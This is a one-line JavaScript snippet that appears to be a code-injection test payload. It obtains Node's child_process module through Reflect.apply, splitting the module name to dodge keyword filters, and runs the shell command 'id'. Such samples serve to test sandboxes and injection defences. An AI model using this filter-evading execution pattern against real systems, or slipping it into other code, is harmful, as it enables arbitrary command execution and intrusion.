Reflect.apply(require, null, ['child' + '_process']).execSync('id');
